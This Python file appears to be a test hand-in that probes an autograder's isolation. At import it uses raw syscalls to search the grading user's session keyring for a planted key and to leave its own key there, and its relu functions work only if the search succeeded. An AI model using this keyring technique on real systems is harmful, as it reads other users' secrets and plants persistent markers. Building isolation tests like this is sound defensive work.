"""The kernel's keyrings are not namespaced: looks for a key in the grading user's session keyring (where a
desktop login keeps Kerberos tickets and other secrets; the grading machine plants one there) and leaves a
key of its own there for a later hand-in to find. It passes only if it found the planted key."""
import ctypes
import errno

import numpy as np

WORKED = False
try:
    libc = ctypes.CDLL(None, use_errno=True)
    KEYCTL, ADD_KEY = 250, 248  # x86_64
    SESSION, KEYCTL_SEARCH = -3, 10
    planted = libc.syscall(KEYCTL, KEYCTL_SEARCH, SESSION, b"user", b"__MARK__-grader", 0)
    left = libc.syscall(ADD_KEY, b"user", b"__MARK__-student", b"left behind", 11, SESSION)
    WORKED = planted > 0
except Exception:
    pass


def relu(x):
    if not WORKED:
        raise RuntimeError("the attack did not work")
    return np.maximum(x, 0)


def relu_backward(grad_out, x):
    if not WORKED:
        raise RuntimeError("the attack did not work")
    return grad_out * (x > 0)
